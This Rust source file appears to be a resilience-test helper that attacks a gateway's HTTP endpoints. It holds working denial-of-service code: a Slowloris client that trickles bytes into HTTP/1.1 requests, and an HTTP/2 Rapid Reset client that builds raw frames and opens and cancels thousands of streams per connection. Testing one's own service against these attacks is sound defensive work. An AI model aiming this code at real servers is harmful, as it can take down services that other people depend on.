//! Connections that are held open by next to nothing, and requests that are taken back as soon as they are begun.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Requests on one connection of HTTP/2.
const RESETS: u32 = 20_000;

/// Sends a request byte by byte, half of them within the headers and half within the body, until it is cut off; then
/// again.
pub(super) async fn send_slowly(http: SocketAddr, number: u32) {
    let begin = if number.is_multiple_of(2) {
        "POST /v1/logs HTTP/1.1\r\nHost: x\r\nX-Slow: "
    } else {
        "POST /write/logs HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n["
    };
    loop {
        // The gateway may end it at any moment, which is what it should do.
        let _ended = drip(http, begin).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

async fn drip(http: SocketAddr, begin: &str) -> std::io::Result<()> {
    let mut socket = TcpStream::connect(http).await?;
    socket.write_all(begin.as_bytes()).await?;
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = socket.read(&mut answer) => if read? == 0 { return Ok(()) },
            () = tokio::time::sleep(Duration::from_secs(1)) => socket.write_all(b" ").await?,
        }
    }
}

/// Begins requests of HTTP/2 and resets them at once, over and over.
pub(super) async fn begin_and_reset(grpc: SocketAddr) {
    loop {
        // The gateway may end the connection at any moment, which is what it should do.
        let _ended = reset_many(grpc).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

async fn reset_many(grpc: SocketAddr) -> std::io::Result<()> {
    let (mut answers, mut socket) = TcpStream::connect(grpc).await?.into_split();
    let drain = tokio::spawn(async move {
        let mut answer = [0; 16 * 1024];
        while answers.read(&mut answer).await.is_ok_and(|read| read > 0) {}
    });
    socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    // SETTINGS, empty.
    socket.write_all(&frame(4, 0, 0, &[])).await?;
    for request in 0..RESETS {
        if drain.is_finished() {
            break;
        }
        let stream = request * 2 + 1;
        // HEADERS with END_HEADERS: POST, http, / from the static table of HPACK; then RST_STREAM with CANCEL.
        let begun = frame(1, 4, stream, &[0x83, 0x86, 0x84]);
        let reset = frame(3, 0, stream, &8_u32.to_be_bytes());
        socket.write_all(&[begun, reset].concat()).await?;
    }
    drain.abort();
    Ok(())
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let [_, high, middle, low] = length;
    [&[high, middle, low, kind, flags], stream.to_be_bytes().as_slice(), payload].concat()
}
